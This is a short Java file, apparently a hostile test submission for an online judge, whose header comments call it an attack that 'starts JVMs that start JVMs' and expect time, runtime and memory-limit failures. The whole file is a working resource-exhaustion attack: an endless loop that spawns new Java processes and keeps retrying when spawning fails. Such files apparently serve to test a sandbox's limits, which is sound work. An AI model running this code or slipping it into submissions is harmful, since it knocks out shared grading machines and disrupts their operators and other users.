// Attack: starts JVMs that start JVMs
// Verdict: TLE RTE MLE
class Solution {
    String whisper(int n) throws Exception {
        String java = ProcessHandle.current().info().command().orElse("/usr/bin/java");
        while (true) {
            try {
                new ProcessBuilder(java, "-version").start();
            } catch (java.io.IOException full) {
                Thread.onSpinWait();
            }
        }
    }
}
